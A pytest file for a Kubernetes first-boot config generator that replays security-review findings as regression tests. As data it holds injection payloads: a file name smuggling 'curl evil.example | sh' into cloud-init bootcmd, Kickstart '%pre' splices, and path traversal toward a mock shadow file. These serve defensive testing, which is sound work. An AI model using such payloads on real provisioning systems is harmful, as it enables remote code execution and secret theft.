"""Issue 9, "secure by construction": each finding of the security review, reproduced as an attack.

A second local user is simulated by chown'ing files to an unused uid (the tests run as root).
"""

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.support.common import ROOT, run_gen

from generator import secrets
from generator.emit import write_artifact
from generator.errors import ProfileError, UsageError
from generator import node_paths as paths

OTHER_UID = 4242  # no such user: the attacker
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="simulating another user needs root")
SECRET_HEADER = "# k8s-firstboot cluster secrets\n"


def profile_tree(tmp_path: Path) -> Path:
    """A copy of the demo cluster's profiles; returns the control plane's profile."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    for name in ("cluster.yaml", "master.yaml", "worker.yaml"):
        (tmp_path / name).write_text((ROOT / "profiles" / name).read_text())
    return tmp_path / "master.yaml"


# --- finding 1: the temporary file of an artifact ------------------------------------------------------------

@ROOT_ONLY
def test_a_planted_temporary_file_does_not_become_the_artifact(tmp_path):
    """Before: the artifact was written through `.{name}.{pid}.tmp`, which another user could create first."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)  # like /tmp: everyone may add names
    target = shared / "master.ks"
    planted = shared / f".master.ks.{os.getpid()}.tmp"
    planted.write_bytes(b"")
    planted.chmod(0o666)
    os.chown(planted, OTHER_UID, OTHER_UID)
    write_artifact(target, "# CA key inside\n")
    info = target.lstat()
    assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (0, 0o600)
    assert planted.read_bytes() == b"" and planted.stat().st_uid == OTHER_UID


@pytest.mark.parametrize("mode", [0o777, 0o775])
def test_an_output_directory_others_can_write_is_refused(tmp_path, mode):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(mode)
    with pytest.raises(UsageError, match="writable by others"):
        write_artifact(shared / "master.ks", "x\n")
    assert list(shared.iterdir()) == []
    result = run_gen("ks", str(ROOT / "profiles/master.yaml"), "-o", str(shared / "master.ks"))
    assert result.returncode == 2 and "writable by others" in result.stderr and "Traceback" not in result.stderr
    assert list(shared.iterdir()) == []


@ROOT_ONLY
def test_root_refuses_an_output_directory_of_another_user(tmp_path):
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o755)
    os.chown(theirs, OTHER_UID, OTHER_UID)
    with pytest.raises(UsageError, match="belongs to uid 4242"):
        write_artifact(theirs / "master.ks", "x\n")
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    write_artifact(sticky / "master.ks", "x\n")  # a sticky directory (/tmp) is fine
    assert stat.S_IMODE((sticky / "master.ks").stat().st_mode) == 0o600


# --- finding 2: the secrets directory and file ---------------------------------------------------------------

def planted_secrets(directory: Path, cluster: str = "demo", **changes) -> Path:
    """A secrets file as someone else would plant it: valid secrets of another CA, with `changes` applied."""
    data = secrets._to_data(secrets.generate())
    for key, value in changes.items():
        section, _, part = key.partition("__")
        if part:
            data[section][part] = value
        else:
            data[section] = value
    path = secrets.secrets_path(cluster, directory)
    path.write_text(SECRET_HEADER + yaml.safe_dump(data))
    path.chmod(0o600)
    return path


def gen_ks(profile: Path, secrets_dir: Path):
    return run_gen("ks", str(profile), env={"K8S_FIRSTBOOT_SECRETS_DIR": str(secrets_dir)})


@ROOT_ONLY
def test_a_squatted_secrets_directory_is_refused(tmp_path):
    """Before: another user's 0777 directory with a planted file made `gen ks` render the attacker's CA."""
    squatted = tmp_path / "state"
    squatted.mkdir()
    squatted.chmod(0o777)
    planted = planted_secrets(squatted)
    os.chown(squatted, OTHER_UID, OTHER_UID)
    os.chown(planted, OTHER_UID, OTHER_UID)
    result = gen_ks(profile_tree(tmp_path / "p"), squatted)
    assert result.returncode == 2 and result.stdout == "", result.stderr
    assert "belongs to uid 4242" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("attack", ["dir-0755", "dir-0777-sticky", "parent-writable", "file-0644", "file-other-uid",
                                    "file-symlink", "file-fifo"])
def test_secrets_that_others_could_have_touched_are_refused(tmp_path, attack):
    if attack == "file-other-uid" and os.geteuid() != 0:
        pytest.skip("needs root")
    parent = tmp_path / "parent"
    directory = parent / "k8s-firstboot"
    directory.mkdir(parents=True, mode=0o700)
    genuine = secrets.load_or_create("demo", directory)
    path = secrets.secrets_path("demo", directory)
    if attack == "dir-0755":
        directory.chmod(0o755)
    elif attack == "dir-0777-sticky":
        directory.chmod(0o1777)
    elif attack == "parent-writable":
        parent.chmod(0o777)  # anyone may rename k8s-firstboot/ away and put their own in its place
    elif attack == "file-0644":
        path.chmod(0o644)
    elif attack == "file-other-uid":
        os.chown(path, OTHER_UID, OTHER_UID)
    elif attack == "file-symlink":
        elsewhere = tmp_path / "elsewhere.yaml"
        path.rename(elsewhere)
        path.symlink_to(elsewhere)
    elif attack == "file-fifo":
        path.unlink()
        os.mkfifo(path, 0o600)
    with pytest.raises(ProfileError) as caught:
        secrets.load_or_create("demo", directory)
    assert str(path.parent) in str(caught.value)
    assert genuine.ca.key not in str(caught.value)


SPLICE = "%end\n%pre\ntouch /tmp/pwned\n%end\n"


def put(section: str, part: str, value):
    """A change to a secrets mapping; `value` is called with (the data, other secrets) when callable."""
    def change(data: dict, other: secrets.ClusterSecrets) -> None:
        new = value(data, other) if callable(value) else value
        if part:
            data[section][part] = new
        else:
            data[section] = new
    return change


@pytest.mark.parametrize("change, reason", [
    (put("ca", "key", lambda d, o: d["ca"]["key"] + SPLICE), "ca.key: not a single PEM block"),
    (put("ca", "cert", lambda d, o: d["ca"]["cert"] + SPLICE), "ca.cert: not a single PEM block"),
    (put("token", "", "abcdef.0123456789abcdef\n%pre"), "token: not a kubeadm bootstrap token"),
    (put("token", "", "ABCDEF.0123456789abcdef"), "token: not a kubeadm bootstrap token"),
    (put("etcd_ca", "key", lambda d, o: o.etcd_ca.key), "etcd_ca: the key does not belong to its certificate"),
    (put("service_account", "key", lambda d, o: o.ca.key), "service_account: the key does not belong to its public key"),
    (put("front_proxy_ca", "", "x"), "front_proxy_ca: needs `cert` and `key`"),
    (put("ca", "cert", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"), "ca: unreadable PEM"),
])
def test_every_secret_is_parsed_and_checked(tmp_path, change, reason):
    """Before: a `ca.key` with `%end`/`%pre` appended gave a Kickstart in which pykickstart finds a %pre."""
    directory = tmp_path / "s"
    directory.mkdir(mode=0o700)
    data = secrets._to_data(secrets.generate())
    change(data, secrets.generate())
    path = secrets.secrets_path("demo", directory)
    path.write_text(SECRET_HEADER + yaml.safe_dump(data))
    path.chmod(0o600)
    result = gen_ks(profile_tree(tmp_path / "p"), directory)
    assert result.returncode == 2 and result.stdout == "", result.stderr
    assert f"{path}: error: secrets: " in result.stderr and reason in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and "BEGIN" not in result.stderr


def test_good_secrets_files_still_load(tmp_path):
    directory = tmp_path / "s"
    directory.mkdir(mode=0o700)
    path = planted_secrets(directory)
    assert secrets.load(path).token == yaml.safe_load(path.read_text())["token"]
    assert gen_ks(profile_tree(tmp_path / "p"), directory).returncode == 0


# --- finding 3: a profile's file name in the artifacts -------------------------------------------------------

HOSTILE_NAMES = [
    'w\nssh_pwauth: true\nbootcmd: ["curl evil.example | sh"]\n#.yaml',
    "w\rssh_pwauth: true\r#.yaml",
    "w\x85ssh_pwauth: true\x85#.yaml",             # NEL: a line break to YAML
    "w\u2028ssh_pwauth: true\u2028#.yaml",
    "w\n%pre\ntouch \\x2ftmp\\x2fpwned\n%end\n#.yaml",  # \x2f: a `/` once YAML or a shell unescapes it
    'w\n"\\x2fetc": 1\n#.yaml',
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_file_name_cannot_add_keys_commands_or_sections(tmp_path, name):
    """Before: the user-data's header comment carried the raw file name, so a newline in it added top-level keys."""
    from generator import verify
    from generator.cloudinit import cloud_config, render_user_data
    from generator.kickstart import render_kickstart
    from generator.pipeline import node_from_profile
    from generator.node_paths import SCRIPT_PATH
    from generator.render import node_files

    profile_tree(tmp_path)
    profile = tmp_path / name
    profile.write_text((tmp_path / "worker.yaml").read_text())
    node = node_from_profile(profile, tmp_path / "secrets")
    user_data = render_user_data(node)
    assert yaml.safe_load(user_data) == cloud_config(node)
    assert list(yaml.safe_load(user_data)) == list(cloud_config(node))
    ks = render_kickstart(node)
    parsed = verify.parse_kickstart(ks, node.os.ks_handler)
    assert [s.type for s in parsed.handler.scripts] == [s.type for s in verify.parse_kickstart(
        render_kickstart(node_from_profile(tmp_path / "worker.yaml", tmp_path / "secrets")), node.os.ks_handler).handler.scripts]
    script = next(f.content for f in node_files(node) if f.path == SCRIPT_PATH)
    for text in (user_data, ks, script):
        named = [line for line in text.splitlines() if "w_" in line]
        assert named and all(line.lstrip().startswith("#") for line in named), named
        # (a %pre of our own is normal: the script sections were compared with the benign name's above)
        assert not [line for line in text.splitlines() if line.startswith(("ssh_pwauth", '"\\x2fetc', "touch"))]


# --- finding 6: `extends:` stays inside the profile tree -----------------------------------------------------

OUTSIDE_SECRET = "root:$6$not-a-real-hash:19000:0:99999:7:::\n"


@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink", "missing-outside", "fifo", "directory"])
def test_extends_reads_nothing_outside_the_profile_tree(tmp_path, how):
    """Before: `extends: /etc/shadow` printed a line of it in the error, and "not found" told what exists."""
    outside = tmp_path / "outside"
    outside.mkdir()
    shadow = outside / "shadow"
    shadow.write_text(OUTSIDE_SECRET)
    tree = tmp_path / "tree"
    tree.mkdir()
    ref = {"absolute": str(shadow), "dotdot": "../outside/shadow", "symlink": "link.yaml",
           "missing-outside": "../outside/nothing", "fifo": "pipe.yaml", "directory": "sub"}[how]
    if how == "symlink":
        (tree / "link.yaml").symlink_to(shadow)
    elif how == "fifo":
        os.mkfifo(tree / "pipe.yaml")
    elif how == "directory":
        (tree / "sub").mkdir()
    profile = tree / "node.yaml"
    profile.write_text(f"extends: {ref}\nrole: worker\n")
    result = run_gen("validate", str(profile))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert f"{profile}:1: error: extends: " in result.stderr
    assert "not-a-real-hash" not in result.stderr and "root:" not in result.stderr
    if how != "fifo" and how != "directory":
        assert "inside the profile's folder" in result.stderr or "relative path" in result.stderr, result.stderr
    # an outside file that exists and one that does not get the same answer
    if how == "missing-outside":
        profile.write_text("extends: ../outside/shadow\nrole: worker\n")
        assert run_gen("validate", str(profile)).stderr == result.stderr


def test_extends_inside_the_tree_still_works(tmp_path):
    profile = profile_tree(tmp_path / "p")
    (tmp_path / "p" / "sub").mkdir()
    (tmp_path / "p" / "sub" / "node.yaml").write_text("extends: ../worker.yaml\nhostname: w7\n")
    assert run_gen("validate", str(profile.parent / "worker.yaml")).returncode == 0
    # the tree is the folder of the profile named on the command line; sub/ reaching up leaves it
    result = run_gen("validate", str(tmp_path / "p" / "sub" / "node.yaml"))
    assert result.returncode == 2 and "inside the profile's folder" in result.stderr


# --- finding 7: input that hangs or crashes the generator -----------------------------------------------------

@pytest.mark.parametrize("text, message", [
    ("role: " + "[" * 40_000, "nested more than 32 levels deep"),
    ("role: " + "{a: " * 100_000, "nested more than 32 levels deep"),
    ("role: worker\nhostname: " + "9" * 5000 + "\n", "hostname: not a valid value"),
    ("role: worker\nhostname: 2024-13-45\n", "hostname: not a valid value"),
])
def test_hostile_yaml_is_a_quick_exit_2(tmp_path, text, message):
    """Before: 40 KB of `[` took 20 s, a 5000-digit number and a date-like host name were internal errors."""
    import time
    profile = tmp_path / "p.yaml"
    profile.write_text(text)
    started = time.monotonic()
    result = run_gen("validate", str(profile))
    assert time.monotonic() - started < 15
    assert result.returncode == 2 and message in result.stderr and "internal error" not in result.stderr, result.stderr


@pytest.mark.parametrize("kind", ["fifo", "device", "huge"])
def test_only_regular_files_of_sane_size_are_read(tmp_path, kind):
    """Before: a FIFO in a build folder hung `gen build`; /dev/zero as a profile ate gigabytes."""
    build_dir = tmp_path / "in"
    build_dir.mkdir()
    if kind == "fifo":
        os.mkfifo(build_dir / "x.yaml")
        target = build_dir
    elif kind == "device":
        target = Path("/dev/zero")
    else:
        (build_dir / "x.yaml").write_text("role: worker\n# " + "x" * (2 << 20) + "\n")
        target = build_dir
    command = ["build", str(target), "-o", str(tmp_path / "out")] if target.is_dir() else ["validate", str(target)]
    result = subprocess.run([sys.executable, "-m", "generator", *command], capture_output=True, text=True,
                            cwd=ROOT, timeout=60)
    assert result.returncode == 2, result.stderr
    assert ("not a regular file" if kind != "huge" else "larger than 1024 KiB") in result.stderr
    assert not (tmp_path / "out").exists()


# --- finding 4: cloud-init writes the keys into folders only root can enter -----------------------------------

@pytest.mark.parametrize("profile", ["profiles/ha/cp2.yaml", "proxied-worker"])
def test_cloud_init_never_writes_a_secret_where_others_can_read_it(tmp_path, profile):
    """Before: under strace, cloud-init 22.4 made /etc/k8s-firstboot/pki 0755 and opened ca.key 0666, chmod'ing
    it to 0600 only afterwards; proxy.env (proxy credentials) stayed 0644."""
    from tests.support.common import need
    from generator.pipeline import node_from_profile
    from generator.render import node_files
    from tests.support.sandbox import bwrap_available
    from tests.support.cloud_sandbox import CloudSandbox

    need(bwrap_available(), "bubblewrap (bwrap) cannot run here")
    need(Path("/usr/bin/strace").exists(), "strace is not installed (apt-get install strace)")
    if profile == "proxied-worker":
        profile_tree(tmp_path / "p")
        (tmp_path / "p" / "w.yaml").write_text((ROOT / "profiles/worker.yaml").read_text()
                                               + "proxy: {http: 'http://user:pass@proxy.example:3128'}\n")
        profile = str(tmp_path / "p" / "w.yaml")
    node = node_from_profile(ROOT / profile)
    files = node_files(node)
    secret = [f.path for f in files if f.secret]
    folders = sorted({paths.CONFIG_DIR, *(str(Path(p).parent) for p in secret)})
    assert secret and all(f.mode == 0o600 for f in files if f.secret)
    assert paths.PROXY_ENV in secret or node.proxy is None
    out = tmp_path / "user-data"
    assert run_gen("cloud-init", str(ROOT / profile), "-o", str(out)).returncode == 0
    box = CloudSandbox(tmp_path / "box", out.read_bytes(), node.hostname)
    traced = box.run(["strace", "-f", "-qq", "-o", "/root/trace", "-e", "trace=openat,mkdir,mkdirat,chmod,fchmodat",
                      "cloud-init", "init"], timeout=300)
    assert traced.returncode == 0, traced.stderr[-2000:]
    trace = box.file("/root/trace").read_text().splitlines()

    def first(pattern: str) -> int:
        return next(i for i, line in enumerate(trace) if pattern in line)

    for folder in folders:
        made_private = first(f'"{folder}", 0700')
        inside = [i for i, line in enumerate(trace) if f'"{folder}/' in line and "O_CREAT" in line]
        assert inside and made_private < min(inside), folder
        assert os.stat(box.file(folder)).st_mode & 0o777 == 0o700
    for path in secret:
        assert "0600" in trace[first(f'chmod("{path}"')], path
        assert all(os.stat(box.file(p)).st_mode & 0o777 == 0o700 for p in folders if path.startswith(p + "/"))


# --- finding 8: the smaller items ----------------------------------------------------------------------------

def test_the_documented_first_example_writes_0600_and_a_readable_stdout_file_is_warned_about(tmp_path):
    """Before: the README's first example was `gen ks ... > master.ks`, which leaves the CA key 0644, silently."""
    readme = (ROOT / "README.md").read_text()
    first = next(line for line in readme.splitlines() if line.strip().startswith("gen ks "))
    assert " -o " in first and ">" not in first
    readable = tmp_path / "master.ks"
    with open(readable, "w") as out:
        os.fchmod(out.fileno(), 0o644)
        result = subprocess.run([sys.executable, "-m", "generator", "ks", str(ROOT / "profiles/master.yaml")],
                                stdout=out, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    assert result.returncode == 0 and "-o FILE" in result.stderr and "0644" in result.stderr
    private = tmp_path / "private.ks"
    with open(private, "w") as out:
        os.fchmod(out.fileno(), 0o600)
        result = subprocess.run([sys.executable, "-m", "generator", "ks", str(ROOT / "profiles/master.yaml")],
                                stdout=out, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    # only the profile's own warnings (located, with the line they point at), no word about stdout
    assert result.returncode == 0 and all(": warning: " in l or l.startswith(" ") for l in result.stderr.splitlines())
    assert readable.read_text() == private.read_text()  # the warning goes to stderr, never into the artifact


def test_an_extra_script_name_with_a_trailing_newline_is_refused(tmp_path):
    """Before: `re.match` with `$` let "x.sh\\n" through, a newline in a MIME part's file name."""
    script = tmp_path / "x.sh\n"
    script.write_text("#!/bin/sh\ntrue\n")
    result = run_gen("cloud-init", str(ROOT / "profiles/worker.yaml"), "--extra-script", str(script))
    assert result.returncode == 2 and "cannot be used" in result.stderr and result.stdout == ""


@pytest.mark.parametrize("path", [paths.REGISTRIES_PATH, paths.DONE_MARKER,
                                  "/etc/systemd/system/kubelet.service.d/90-k8s-firstboot-proxy.conf",
                                  paths.KEEPALIVED_CHECK, paths.KEEPALIVED_CONF])
def test_cloud_init_write_files_cannot_replace_a_file_of_the_bootstrap(tmp_path, path):
    """Before: the guard knew only the files every node gets, so conditional ones (and the done-marker) passed."""
    profile_tree(tmp_path)
    profile = tmp_path / "w.yaml"
    profile.write_text((tmp_path / "worker.yaml").read_text()
                       + yaml.safe_dump({"cloud_init": {"write_files": [{"path": path, "content": "x\n"}]}}))
    result = run_gen("validate", str(profile))
    assert result.returncode == 2 and "written by k8s-firstboot itself" in result.stderr, result.stderr


def test_write_files_content_reaches_the_node_byte_for_byte(tmp_path):
    """Before: U+0085 (NEL) in a literal block was read back by YAML as a line break."""
    from generator.cloudinit import render_user_data
    from generator.pipeline import node_from_profile

    content = "a\x85b\u2028c\u2029d\ne\n"
    profile_tree(tmp_path)
    profile = tmp_path / "w.yaml"
    profile.write_text((tmp_path / "worker.yaml").read_text()
                       + yaml.safe_dump({"cloud_init": {"write_files": [{"path": "/etc/site.txt", "content": content}]}}))
    written = yaml.safe_load(render_user_data(node_from_profile(profile, tmp_path / "s")))["write_files"]
    assert next(f["content"] for f in written if f["path"] == "/etc/site.txt") == content


def test_token_ttl_empty_is_refused_and_never_expiring_is_warned_about(tmp_path):
    profile_tree(tmp_path)
    for ttl, code, words in (("''", 2, "kubernetes.token_ttl"), ("0s", 0, "never expires"), ("0h0m", 0, "never expires")):
        (tmp_path / "m.yaml").write_text((tmp_path / "master.yaml").read_text() + f"\nkubernetes: {{token_ttl: {ttl}}}\n")
        result = run_gen("validate", str(tmp_path / "m.yaml"))
        assert result.returncode == code and words in result.stderr + result.stdout, (ttl, result.stderr)
    (tmp_path / "m.yaml").write_text((tmp_path / "master.yaml").read_text() + "\nkubernetes: {token_ttl: 2h}\n")
    assert "never expires" not in run_gen("validate", str(tmp_path / "m.yaml")).stderr


# --- finding 5: what the node downloads and runs -------------------------------------------------------------

def with_cni(tmp_path: Path, extra: dict) -> Path:
    profile_tree(tmp_path)
    profile = tmp_path / "m.yaml"
    profile.write_text((tmp_path / "master.yaml").read_text() + yaml.safe_dump(extra))
    return profile


def test_pinned_checksums_are_well_formed_and_say_where_they_came_from():
    from generator import DATA_DIR
    table = yaml.safe_load((DATA_DIR / "checksums.yaml").read_text())
    assert table
    for url, entry in table.items():
        assert url.startswith("https://") and set(entry) == {"sha256", "source"}
        assert len(entry["sha256"]) == 64 and int(entry["sha256"], 16) >= 0
        assert " v" in entry["source"] and "blob " in entry["source"]


@pytest.mark.parametrize("repo, url_prefix", [("projectcalico+calico", "https://raw.githubusercontent.com/projectcalico/calico/"),
                                              ("flannel-io+flannel", "https://raw.githubusercontent.com/flannel-io/flannel/")])
def test_pinned_checksums_match_the_files_at_their_tags(repo, url_prefix):
    """Where a copy of the upstream repository is at hand ($K8S_FIRSTBOOT_UPSTREAM_MIRRORS/<owner>+<name>/repo, a
    bare git clone), recompute every digest from git."""
    import hashlib
    from generator import DATA_DIR
    mirror = Path(os.environ.get("K8S_FIRSTBOOT_UPSTREAM_MIRRORS", "/nonexistent")) / repo / "repo"
    if not mirror.exists():
        pytest.skip(f"no local copy of {repo} to recompute the digests from")
    table = yaml.safe_load((DATA_DIR / "checksums.yaml").read_text())
    pinned = {u: e for u, e in table.items() if u.startswith(url_prefix)}
    assert pinned
    for url, entry in pinned.items():
        tag, _, path = url[len(url_prefix):].partition("/")
        data = subprocess.run(["git", "-C", str(mirror), "show", f"{tag}:{path}"], capture_output=True, check=True).stdout
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], url


def test_a_pinned_manifest_is_checked_before_it_is_applied(tmp_path, monkeypatch):
    """Before: the CNI manifest was applied with admin rights and no checksum."""
    from generator.pipeline import node_from_profile
    from generator.node_paths import SCRIPT_PATH
    from generator.render import node_files

    monkeypatch.delenv("K8S_FIRSTBOOT_CHECKSUMS")  # the real table, not the stand-in's
    url = "https://raw.githubusercontent.com/projectcalico/calico/v3.31.3/manifests/calico.yaml"
    profile = with_cni(tmp_path, {"kubernetes": {"version": "1.33"}, "cni": {"version": "3.31"}})
    node = node_from_profile(profile, tmp_path / "s")
    assert node.cni.manifest_url == url
    script = next(f.content for f in node_files(node) if f.path == SCRIPT_PATH)
    check = script.index("4b2e4053abc87427c214128f0e1b065d2f0dbadeb6be4ca3bdc6754e33af0ca7")
    assert script.index("curl -fsSL --max-time 120 -o") < check < script.index('kubectl --kubeconfig "$ADMIN_KUBECONFIG" apply')
    assert not [w for w in node.warnings if "manifest" in w.message]


@pytest.mark.parametrize("matches", [True, False])
def test_the_node_applies_only_the_manifest_it_was_promised(tmp_path, matches):
    import hashlib
    from tests.support.common import need
    from generator.kickstart import render_kickstart
    from generator.pipeline import node_from_profile
    from tests.support.rehearsal import run_first_boot, run_kickstart_post
    from tests.support.sandbox import Sandbox, bwrap_available
    from tests.support.standin import DOWNLOAD

    need(bwrap_available(), "bubblewrap (bwrap) cannot run here")
    digest = hashlib.sha256(DOWNLOAD.encode() if matches else b"other bytes").hexdigest()
    profile = with_cni(tmp_path, {"cni": {"manifest_url": "https://mirror.example/calico.yaml", "manifest_sha256": digest},
                                  "bootstrap": {"step_timeout": 30, "retry_delay": 1}})
    node = node_from_profile(profile, tmp_path / "s")
    assert node.cni.manifest_sha256 == digest
    box = Sandbox(tmp_path / "box")
    run_kickstart_post(box, render_kickstart(node), node.os.ks_handler)
    booted = run_first_boot(box)
    applied = [line for line in box.command_lines() if line.startswith("kubectl") and " apply " in line]
    if matches:
        assert booted.returncode == 0, booted.stderr[-2000:]
        assert applied
    else:
        assert booted.returncode != 0 and not applied
        assert "does not match its pinned sha256" in booted.stderr + box.console()


def test_validate_warns_about_weak_downloads_and_strict_refuses_them(tmp_path):
    """Before: `gen validate` was silent about http keys and manifests and about unpinned manifests."""
    profile = with_cni(tmp_path, {"cni": {"manifest_url": "http://mirror.example/calico.yaml"},
                                  "mirrors": {"kubernetes": {"baseurl": "https://mirror.example/k8s/",
                                                             "gpgkey": ["http://mirror.example/k8s/key.gpg"]}}})
    result = run_gen("validate", str(profile))
    assert result.returncode == 0, result.stderr
    for words in ("warning: cni.manifest_url: http://mirror.example/calico.yaml is plain http",
                  "warning: mirrors.kubernetes.gpgkey: http://mirror.example/k8s/key.gpg is plain http",
                  "no checksum is pinned for it; set cni.manifest_sha256"):
        assert words in result.stderr, result.stderr
    strict = run_gen("validate", "--strict", str(profile))
    assert strict.returncode == 2 and strict.stderr.count(": warning:") == 0
    assert "error: cni.manifest_url: http://mirror.example/calico.yaml is plain http: anyone on the path can change " \
           "what the node runs; use https [--strict]" in strict.stderr and "Traceback" not in strict.stderr
    pinned = with_cni(tmp_path / "pinned", {"cni": {"manifest_url": "https://mirror.example/calico.yaml",
                                                     "manifest_sha256": "ab" * 32}})
    clean = run_gen("validate", "--strict", str(pinned))
    assert clean.returncode == 0 and "warning" not in clean.stderr, clean.stderr


def test_url_credentials_stay_out_of_the_script_and_command_lines(tmp_path):
    """Before: report_url (credentials and all) sat in the 0755 script and on curl's command line."""
    from generator.cloudinit import render_user_data
    from generator.pipeline import node_from_profile
    from generator.node_paths import SCRIPT_PATH
    from generator.render import node_files

    secret_url = "https://monitor:s3cret@status.example/k8s"
    profile = with_cni(tmp_path, {"bootstrap": {"report_url": secret_url},
                                  "proxy": {"http": "http://user:pr0xy@proxy.example:3128"}})
    node = node_from_profile(profile, tmp_path / "s")
    files = {f.path: f for f in node_files(node)}
    script = files[SCRIPT_PATH].content
    assert "s3cret" not in script and "pr0xy" not in script
    assert f"-K {paths.REPORT_CURLRC} " in script  # curl reads the URL from the 0600 file, never argv
    for path, words in ((paths.REPORT_CURLRC, "s3cret"), (paths.PROXY_ENV, "pr0xy")):
        assert words in files[path].content and files[path].mode == 0o600 and files[path].secret
    written = {f["path"]: f for f in yaml.safe_load(render_user_data(node))["write_files"]}
    assert written[paths.REPORT_CURLRC]["permissions"] == "0600"
    assert written[paths.PROXY_ENV]["permissions"] == "0600"


def test_build_checks_its_output_folder_before_writing_into_subfolders(tmp_path):
    """The HA profiles land in out/ha/: a world-writable out/ must be refused before anything is written."""
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o777)
    result = run_gen("build", str(ROOT / "profiles"), "-o", str(out))
    assert result.returncode == 2 and "writable by others" in result.stderr and "Traceback" not in result.stderr
    assert list(out.iterdir()) == []


def test_a_damaged_secrets_file_is_reported_without_quoting_it(tmp_path):
    directory = tmp_path / "s"
    directory.mkdir(mode=0o700)
    path = secrets.secrets_path("demo", directory)
    path.write_text("token: abcdef.0123456789abcdef\nca: {key: 'MHcCAQEEIKEYMATERIAL\n")
    path.chmod(0o600)
    with pytest.raises(ProfileError) as caught:
        secrets.load(path)
    assert "damaged cluster secrets file near line" in str(caught.value)
    assert "KEYMATERIAL" not in str(caught.value)
